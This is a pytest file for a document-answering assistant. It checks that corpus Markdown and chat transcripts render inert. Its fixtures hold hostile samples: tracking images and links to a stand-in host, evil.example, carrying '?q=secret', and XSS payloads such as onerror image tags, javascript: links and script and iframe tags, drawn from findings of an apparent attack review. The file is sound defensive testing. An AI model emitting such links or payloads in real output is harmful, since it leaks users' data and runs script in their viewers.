"""A corpus file with images, foreign links and HTML (as PDF and Word conversions produce) is quoted and shown inert."""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from bot.answer.present import reply_markdown, source_views
from bot.assistant import Assistant
from bot.ingest.sentences import split_sentences

CLINIC = """---
title: Clinic briefing
publisher: Acme Health
---

## How Clinics Use Language Models

![tracker](https://evil.example/corpus.png?q=secret)

Our adviser [Dr. Smith](https://evil.example/x?q=secret) says language models help clinics summarise patient letters in minutes. \
Clinics ![pixel](https://evil.example/pixel.png?q=secret) also use language models to draft replies to patients. \
The full clinic report is at https://evil.example/report?q=secret and on the [project page](https://www.evil.example/project).

- [Dr. Jones](https://evil.example/jones) reviews every summary that the clinic language model writes for patients.
- <img src="https://evil.example/tag.png"> Clinic staff check each draft reply before it is sent to a patient.

## Where the Rota Lives

Each morning the duty nurse clones the rota repository from git@git.clinic.example:wards/rota.git onto the ward laptop.
"""

QUESTIONS = [
    ("Who says language models help clinics summarise patient letters?", "Dr. Smith"),
    ("Do clinics use language models to draft replies to patients?", "draft replies to patients"),
    ("Where is the full clinic report?", "full clinic report"),
    ("Who reviews every summary that the clinic language model writes?", "Dr. Jones"),
    ("Do clinic staff check each draft reply before it is sent?", "Clinic staff check each draft reply"),
]

_MD = MarkdownIt("commonmark")
_BARE_FOREIGN_URL = re.compile(r"(?:https?://|www\.)\S*evil\.example", re.I)  # GitHub-style autolinks make these live


def _live(markdown: str) -> list[str]:
    """Images, links and HTML a CommonMark renderer makes of `markdown`."""
    found = []

    def walk(tokens):
        for t in tokens:
            if t.type in ("image", "link_open", "html_inline", "html_block"):
                found.append(f"{t.type} {t.attrGet('src') or t.attrGet('href') or t.content}")
            walk(t.children or [])

    walk(_MD.parse(markdown))
    return found


def _unbalanced(text: str) -> bool:
    depth = 0
    for ch in re.sub(r"\\.", "", text):
        depth += ch == "["
        depth -= ch == "]"
        if depth < 0:
            return True
    return depth != 0


def assert_inert(markdown: str) -> None:
    assert "![" not in markdown, markdown
    assert "](http" not in markdown and "](www" not in markdown, markdown
    assert "<img" not in markdown.lower(), markdown
    assert not _BARE_FOREIGN_URL.search(markdown), markdown
    assert _live(markdown) == [], markdown
    assert not _unbalanced(markdown), markdown


@pytest.fixture(scope="module")
def clinic_assistant(clinic_index):  # conftest: the corpus plus CLINIC, indexed
    return Assistant.build(clinic_index)


@pytest.mark.parametrize(("question", "expected"), QUESTIONS)
def test_quoted_and_displayed_corpus_markdown_loads_and_links_nothing(clinic_assistant, question, expected):
    answer = clinic_assistant.ask(question)
    assert answer.answered
    views = source_views(answer)
    assert any(answer.sources[n - 1].source == "clinic.md" for n in answer.cited), answer.text
    assert expected in answer.text
    assert_inert(answer.text)
    assert not answer.text.rstrip().endswith("[") and not re.search(r"\[[^\]\d]*\[\d+\]", answer.text)
    assert_inert(reply_markdown(answer, views))
    for view in views:
        assert_inert(view.name)
        assert_inert(view.content)
    clinic = [v for n, v in zip(answer.cited, views) if answer.sources[n - 1].source == "clinic.md"]
    assert clinic and "summarise patient letters" in clinic[0].content


def test_a_link_shows_its_text_and_host_as_plain_text(clinic_assistant):
    answer = clinic_assistant.ask(QUESTIONS[0][0])
    assert "Dr. Smith (evil.example) says language models help clinics" in answer.text
    panel = next(
        v.content for n, v in zip(answer.cited, source_views(answer)) if answer.sources[n - 1].source == "clinic.md"
    )
    assert "Dr. Smith (evil.example)" in panel and "project page (evil.example)" in panel
    assert "tracker" not in panel and "secret" not in panel


def test_sentences_are_never_cut_inside_a_link():
    text = "Our adviser [Dr. Smith](https://evil.example/x) says hello. See [St. Mary's. Hospital](https://a.example/b) now. Done."
    assert split_sentences(text) == [
        "Our adviser [Dr. Smith](https://evil.example/x) says hello.",
        "See [St. Mary's. Hospital](https://a.example/b) now.",
        "Done.",
    ]
    plain = "No. LLMs are built for text. Generative AI makes images! Does it? Yes. It does."
    assert split_sentences(plain) == [
        "No. LLMs are built for text.",
        "Generative AI makes images!",
        "Does it? Yes.",
        "It does.",
    ]


_LIVE_EMAIL = re.compile(r"[\w.+-]+@[A-Za-z0-9]")  # GitHub-flavoured Markdown makes it a mailto: link
_RAW_TAG = re.compile(r"<\s*/?\s*[A-Za-z!]")  # any HTML a viewer could render, including what `&lt;` became


def test_the_chat_download_renders_inert_in_any_viewer(clinic_assistant):
    """Finding 7 of the second attack: the Markdown download copied corpus content verbatim (images, raw
    <img>, <iframe>, <script>, javascript: links, titles with markup; HTML escaped in the source page became
    a live tag). Finding 11: an e-mail address in an answer became a live mailto: link."""
    from bot.history.transcript import answer_record, transcript_markdown

    records = [answer_record(q, [], q, clinic_assistant.ask(q), "extractive") for q, _expected in QUESTIONS]
    hostile = {
        "question": "<img src=x onerror=alert(1)> [click](javascript:alert(1)) admin@evil.example?",
        "answer": "See ![pixel](https://evil.example/p.png) <iframe src=//evil.example></iframe> "
        "<script>alert(2)</script> [here](javascript:alert(3)) or write to admin@evil.example, www.evil.example [1]",
        "notes": ["1 generated sentence(s) removed: ~~Mail admin@evil.example~~"],
        "provider": "openai",
        "sources": [
            {
                "n": 1,
                "title": "<img src=x onerror=alert(4)>",
                "publisher": "[Acme](https://evil.example)",
                "heading": "<b>How</b> > **it** works",
                "location": "p. 2",
                "source": "evil`name`.md",
                "text": "Shown as text in the page: &lt;img src=x onerror=alert(5)&gt; and <img src=x>.",
            }
        ],
    }
    markdown = transcript_markdown([*records, hostile], "<b>Acme</b> Advisor")
    assert_inert(markdown)
    assert not _RAW_TAG.search(markdown.replace("&lt;", "").replace("&gt;", "")), markdown
    assert not re.search(r"<(?:img|iframe|script|b)\b", markdown, re.I), markdown
    assert not _LIVE_EMAIL.search(markdown), markdown
    assert "Dr. Smith (evil.example) says language models help clinics" in markdown  # the content is still there
